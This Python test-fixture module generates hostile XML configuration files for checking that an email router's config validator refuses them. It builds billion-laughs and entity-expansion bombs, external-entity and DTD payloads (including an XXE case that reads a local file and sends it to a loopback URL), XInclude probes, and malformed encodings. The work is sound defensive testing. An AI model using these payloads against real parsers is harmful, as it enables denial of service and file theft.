"""Hostile router configuration files, generated: what ``emailrouter config validate`` must refuse.

Issue 12 fed the validator 117 hostile XML files and each was refused with a one-line error;
these are that family, built here so no hostile file sits in the repository: entity expansion
(billion laughs, quadratic blow-up, recursion), external entities and DTDs, DOCTYPEs with
internal subsets, XInclude, huge and duplicate attributes, deep nesting, wrong and unknown
encodings, BOM mix-ups, truncation, bytes XML forbids, and things that are not XML at all.
Each comes in the encodings a Windows admin's file may have (UTF-8, UTF-8 with a BOM, UTF-16 with
a BOM) where the encoding is not itself the point.
"""

from __future__ import annotations

import codecs
from collections.abc import Iterator
from pathlib import Path

BASIC = Path(__file__).parent / "data" / "config" / "basic.xml"
ROOT_OPEN = "<Configuration><SystemConfiguration><LogFile>"
ROOT_CLOSE = "</LogFile></SystemConfiguration></Configuration>"
XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
SECRET_TEXT = "NOTAREALSECRET-config-target"


def _laughs(depth: int) -> str:
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, depth + 1)]
    return f"<!DOCTYPE Configuration [{''.join(lines)}]>{ROOT_OPEN}&lol{depth};{ROOT_CLOSE}"


def _doc(doctype: str, text: str = "") -> str:
    return f'<?xml version="1.0"?>\n{doctype}\n{ROOT_OPEN}{text}{ROOT_CLOSE}\n'


def _text_cases(target: Path) -> dict[str, str]:
    """Documents whose danger is in their markup, not their encoding."""
    uri = target.as_uri()
    return {
        "billion-laughs-3": _laughs(3),
        "billion-laughs-9": _laughs(9),
        "quadratic-blowup": _doc(
            f'<!DOCTYPE Configuration [<!ENTITY a "{"x" * 50_000}">]>', "&a;" * 2_000
        ),
        "recursive-entity": _doc(
            '<!DOCTYPE Configuration [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"
        ),
        "external-entity-file": _doc(
            f'<!DOCTYPE Configuration [<!ENTITY x SYSTEM "{uri}">]>', "&x;"
        ),
        "external-entity-http": _doc(
            '<!DOCTYPE Configuration [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>', "&x;"
        ),
        "external-entity-relative": _doc(
            f'<!DOCTYPE Configuration [<!ENTITY x SYSTEM "{target.name}">]>', "&x;"
        ),
        "parameter-entity": _doc(
            f'<!DOCTYPE Configuration [<!ENTITY % p SYSTEM "{uri}"> %p;]>', ""
        ),
        "parameter-entity-exfiltration": _doc(
            f'<!DOCTYPE Configuration [<!ENTITY % f SYSTEM "{uri}">'
            "<!ENTITY % e \"<!ENTITY x SYSTEM 'http://127.0.0.1:9/?%f;'>\"> %e;]>",
            "&x;",
        ),
        "entity-in-attribute": '<?xml version="1.0"?>\n<!DOCTYPE Configuration'
        ' [<!ENTITY a "aaaa">]>\n<Configuration a="&a;"/>\n',
        "unparsed-entity": _doc(
            f'<!DOCTYPE Configuration [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "{uri}" NDATA n>]>'
        ),
        "external-dtd-system": _doc(f'<!DOCTYPE Configuration SYSTEM "{uri}">'),
        "external-dtd-http": _doc('<!DOCTYPE Configuration SYSTEM "http://127.0.0.1:9/x.dtd">'),
        "external-dtd-public": _doc(
            '<!DOCTYPE Configuration PUBLIC "-//X//DTD X//EN" "http://127.0.0.1:9/x.dtd">'
        ),
        "internal-subset-element": _doc("<!DOCTYPE Configuration [<!ELEMENT Configuration ANY>]>"),
        "internal-subset-attlist-default": _doc(
            "<!DOCTYPE Configuration [<!ATTLIST LogFile path CDATA 'C:\\evil'>]>"
        ),
        "internal-subset-empty": _doc("<!DOCTYPE Configuration []>"),
        "two-doctypes": _doc("<!DOCTYPE Configuration>\n<!DOCTYPE Configuration>"),
        "doctype-after-root": f"{ROOT_OPEN}x{ROOT_CLOSE}<!DOCTYPE Configuration>",
        "deep-nesting-300": "<Configuration>" + "<a>" * 300 + "</a>" * 300 + "</Configuration>",
        "deep-nesting-100000": "<Configuration>"
        + "<a>" * 100_000
        + "</a>" * 100_000
        + "</Configuration>",
        "duplicate-attribute": '<Configuration a="1" a="2"/>',
        "huge-attribute-name": f'<Configuration {"a" * 11_000_000}="1"/>',
        "huge-attribute-value": f'<Configuration a="{"x" * 11_000_000}"/>',
        "huge-text-node": f"{ROOT_OPEN}{'x' * 11_000_000}{ROOT_CLOSE}",
        "huge-comment": f"<!--{'x' * 11_000_000}-->{ROOT_OPEN}{ROOT_CLOSE}",
        "undefined-entity": f"{ROOT_OPEN}&nope;{ROOT_CLOSE}",
        "undefined-prefix": "<x:Configuration/>",
        "two-roots": "<Configuration/><Configuration/>",
        "text-after-root": "<Configuration/>trailing text",
        "mismatched-tags": "<Configuration><SystemConfiguration></Configuration>",
        "unclosed-root": "<Configuration><SystemConfiguration/>",
        "unterminated-cdata": f"{ROOT_OPEN}<![CDATA[never closed{ROOT_CLOSE}",
        "unterminated-comment": "<!-- never closed <Configuration/>",
        "double-hyphen-comment": "<!-- a -- b --><Configuration/>",
        "declaration-not-first": ' <?xml version="1.0"?><Configuration/>',
        "declaration-twice": '<?xml version="1.0"?><?xml version="1.0"?><Configuration/>',
        "xml-version-2": '<?xml version="2.0"?><Configuration/>',
        "reserved-pi-target": "<Configuration><?xml stylesheet?></Configuration>",
        "lt-in-attribute": '<Configuration a="<"/>',
        "char-ref-nul": f"{ROOT_OPEN}&#0;{ROOT_CLOSE}",
        "char-ref-surrogate": f"{ROOT_OPEN}&#xD800;{ROOT_CLOSE}",
        "char-ref-too-big": f"{ROOT_OPEN}&#x110000;{ROOT_CLOSE}",
        "control-character": f"{ROOT_OPEN}\x01{ROOT_CLOSE}",
        "nul-character": f"{ROOT_OPEN}\x00{ROOT_CLOSE}",
        "escape-character": f"{ROOT_OPEN}\x1b[31m{ROOT_CLOSE}",
        "only-a-declaration": '<?xml version="1.0"?>',
        "only-a-comment": "<!-- nothing -->",
        "only-a-doctype": "<!DOCTYPE Configuration>",
        "json": '{"Configuration": {"SystemConfiguration": {}}}',
        "html": "<html><body><p>not a config<br></body></html>",
    }


def harmless_files(folder: Path) -> Iterator[tuple[str, Path]]:
    """XInclude: lxml reads it as an element and never follows it, so the file is read (the
    element is reported as unexpected) and its target never shows up."""
    target = folder / "secret.txt"
    target.write_text(SECRET_TEXT + "\n", encoding="utf-8")
    uri = target.as_uri()
    cases = {
        "xinclude-file": _doc("", f'<xi:include {XI} href="{uri}" parse="text"/>').replace(
            "<Configuration>", f"<Configuration {XI}>"
        ),
        "xinclude-http": _doc(
            "", f'<xi:include {XI} href="http://127.0.0.1:9/x" parse="xml"/>'
        ).replace("<Configuration>", f"<Configuration {XI}>"),
    }
    for name, text in cases.items():
        path = folder / f"{name}.xml"
        path.write_text(text, encoding="utf-8")
        yield name, path


def _basic() -> str:
    return BASIC.read_text(encoding="utf-8")


def _byte_cases() -> dict[str, bytes]:
    """Documents whose danger is in their bytes: encodings, BOMs, truncation, binary."""
    basic = _basic()
    body = basic.split("?>", 1)[1]
    decl = '<?xml version="1.0" encoding="{}"?>'
    cases = {
        "utf8-bytes-declared-utf16": decl.format("utf-16").encode() + body.encode("utf-8"),
        "utf16-bytes-declared-utf8": codecs.BOM_UTF16_LE
        + (decl.format("utf-8") + body).encode("utf-16-le")[:-3],
        "latin1-bytes-declared-utf8": (
            decl.format("utf-8") + ROOT_OPEN + "Ärger" + ROOT_CLOSE
        ).encode("latin-1"),
        "unknown-encoding": (decl.format("x-no-such-encoding") + body).encode(),
        "utf7-declared": (decl.format("utf-7") + body).encode(),
        "ebcdic-declared-ascii-bytes": (decl.format("cp500") + body).encode(),
        "utf32-declared-utf8-bytes": (decl.format("utf-32") + body).encode(),
        "utf16le-bom-big-endian-bytes": codecs.BOM_UTF16_LE + basic.encode("utf-16-be"),
        "utf16be-bom-little-endian-bytes": codecs.BOM_UTF16_BE + basic.encode("utf-16-le"),
        "double-utf8-bom": codecs.BOM_UTF8 * 2 + basic.encode(),
        "utf8-bom-then-utf16-bom": codecs.BOM_UTF8 + codecs.BOM_UTF16_LE + basic.encode(),
        "bom-in-the-middle": basic.encode()
        .replace(b"<Providers", codecs.BOM_UTF8 + b"<Providers", 1)
        .replace(b"<SystemConfiguration>", b"<Syst\xef\xbb\xbfemConfiguration>", 1),
        "utf32-bom-utf8-bytes": codecs.BOM_UTF32_LE + basic.encode(),
        "invalid-utf8-sequence": basic.encode().replace(b"<LogLevel>", b"<LogLevel>\xc3\x28", 1),
        "overlong-utf8": basic.encode().replace(b"<LogLevel>", b"<LogLevel>\xc0\xbc", 1),
        "utf8-encoded-surrogate": basic.encode().replace(
            b"<LogLevel>", b"<LogLevel>\xed\xa0\x80", 1
        ),
        "odd-length-utf16": codecs.BOM_UTF16_LE + basic.encode("utf-16-le") + b"<",
        "utf16-lone-surrogate": codecs.BOM_UTF16_LE
        + basic.encode("utf-16-le").replace(
            "<LogLevel>".encode("utf-16-le"), "<LogLevel>".encode("utf-16-le") + b"\x00\xd8", 1
        ),
        "binary-garbage": bytes(range(256)) * 8,
        "zip-file": b"PK\x03\x04" + b"\x00" * 200,
        "gzip-file": b"\x1f\x8b\x08\x00" + b"\x00" * 200,
        "ole2-file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200,
        "only-a-bom": codecs.BOM_UTF8,
        "only-a-utf16-bom": codecs.BOM_UTF16_LE,
        "nul-bytes-only": b"\x00" * 1024,
        "one-line-of-lt": b"<" * 100_000,
    }
    data = basic.encode()
    for n, fraction in enumerate((0.02, 0.1, 0.25, 0.4, 0.5, 0.6, 0.75, 0.9, 0.98)):
        cases[f"truncated-utf8-{n}"] = data[: int(len(data) * fraction)]
    wide = codecs.BOM_UTF16_LE + basic.encode("utf-16-le")
    for n, fraction in enumerate((0.1, 0.5, 0.9)):
        cases[f"truncated-utf16-{n}"] = wide[: int(len(wide) * fraction)]
    return cases


ENCODINGS = {
    "utf8": lambda text: text.encode("utf-8"),
    "utf8-bom": lambda text: codecs.BOM_UTF8 + text.encode("utf-8"),
    "utf16-bom": lambda text: codecs.BOM_UTF16_LE + text.encode("utf-16-le"),
}
# Markup cases whose danger is independent of the encoding: written once, in UTF-8.
_ONCE = ("huge-", "deep-nesting-100000", "nul-character", "json", "html")


def hostile_files(folder: Path) -> Iterator[tuple[str, Path]]:
    """Write every hostile file into *folder*; yield (name, path). A secret file sits beside
    them, which the entity cases point at: its text must never show up in any output."""
    target = folder / "secret.txt"
    target.write_text(SECRET_TEXT + "\n", encoding="utf-8")
    for name, text in _text_cases(target).items():
        for encoding, encode in ENCODINGS.items():
            if encoding != "utf8" and name.startswith(_ONCE):
                continue
            if encoding == "utf16-bom":  # a declaration must then name the encoding
                text = text.replace(
                    '<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16"?>'
                )
            path = folder / f"{name}.{encoding}.xml"
            path.write_bytes(encode(text))
            yield f"{name}.{encoding}", path
    for name, data in _byte_cases().items():
        path = folder / f"{name}.xml"
        path.write_bytes(data)
        yield name, path
